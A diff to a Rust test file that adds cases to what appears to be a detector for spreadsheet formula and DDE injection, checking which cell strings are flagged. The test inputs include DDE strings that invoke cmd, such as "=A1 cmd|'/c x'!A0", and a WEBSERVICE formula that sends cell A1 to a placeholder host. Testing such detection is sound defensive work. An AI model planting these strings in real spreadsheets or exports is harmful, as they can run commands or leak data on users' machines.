@@ -14,6 +14,8 @@ fn what_formulas_do() {
         ("1+inert|' /c x'!'x'", LoadKind::DdeFormula),
         ("'Excel'|Sheet1!R1C1", LoadKind::DdeFormula),
         ("inert|/c x y!A0", LoadKind::DdeFormula),
+        ("=A1 inert|'/c x'!A0", LoadKind::DdeFormula),
+        ("=A1:inert|'/c x'!A0", LoadKind::DdeFormula),
         (
             "=_xlfn.WEBSERVICE(\"http://example.invalid/\")",
             LoadKind::Formula,
@@ -129,6 +131,7 @@ fn cells_that_are_formulas() {
         "-2+3+inert|' /C x'!A0",
         "+cmd|x!y",
         "- cmd|x!y",
+        "=A1 cmd|'/c x'!A0",
         "=WEBSERVICE(\"http://example.invalid/\"&A1)",
         "+HYPERLINK(\"http://example.invalid/\")",
     ] {
@@ -141,6 +144,8 @@ fn cells_that_are_formulas() {
         "+if (a||!b)",
         "- see a|b!c",
         "inert|'/c x'!A1",
+        "= a list of cmd|x!y",
+        "=two words|'x'!y",
         "+call(\"x\")",
         "- two words WEBSERVICE(\"x\")",
     ] {
